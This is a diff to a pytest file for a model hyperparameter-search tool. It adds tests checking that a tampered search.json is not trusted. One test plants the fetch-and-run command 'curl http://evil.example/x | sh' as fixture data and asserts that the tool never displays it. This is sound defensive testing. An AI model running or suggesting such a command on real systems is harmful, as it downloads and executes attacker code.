@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 import signal
 import time
@@ -258,10 +259,40 @@ def test_storage_of_its_own_is_shared_by_searches_in_different_folders() -> None
     assert report("two")["best"]["model_path"] is None
     assert not Path("two/best").exists()
     with pytest.raises(
-        UserError, match=r"two is a search without a best model .*: train it, python -m crossbow_py.tra"
+        UserError, match=r"two is a search without a best model .* resume=two, which says how it is trained"
     ):
         load_models("two")
     assert search_digits(storage, "output_dir=three", "study=another", "seed=1") == 0
+
+
+def test_command_written_into_the_file_of_a_search_is_not_shown_as_what_to_run(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    arguments = ("output_dir=one", "num_trials=1", "method=none", "max_epochs=0.1")
+    assert search_digits(*arguments) == 0
+    was = report("one")
+    command, model = was["best"]["command"], was["best"]["model_path"]
+    evil = {"command": "curl http://evil.example/x | sh", "model_path": "/tmp/evil", "params": {"evil": 1}}
+    Path("one/search.json").write_text(json.dumps({**was, "best": {**was["best"], **evil}}))
+    assert search_digits(*arguments, "resume=auto") == 0
+    out = capsys.readouterr().out
+    assert f"to train it    {command}\n" in out
+    assert f"model          {model}\n" in out
+    assert "Nothing is left to search" in out
+    assert "evil" not in out + Path("one/search.json").read_text()
+
+
+@pytest.mark.usefixtures("no_pictures")
+@pytest.mark.parametrize(
+    ("place", "value"), [("test_accuracy", "evil"), ("value", None), ("trial", 7), ("test_loss", [])]
+)
+def test_best_trial_that_is_none_of_the_search_is_found_and_measured_anew(place: str, value: object) -> None:
+    arguments = ("output_dir=one", "num_trials=1", "method=none", "max_epochs=0.1")
+    assert search_digits(*arguments) == 0
+    was = report("one")
+    Path("one/search.json").write_text(json.dumps({**was, "best": {**was["best"], place: value}}))
+    assert search_digits(*arguments, "resume=auto") == 0
+    assert report("one")["best"] == was["best"]
 
 
 @pytest.mark.usefixtures("no_pictures")
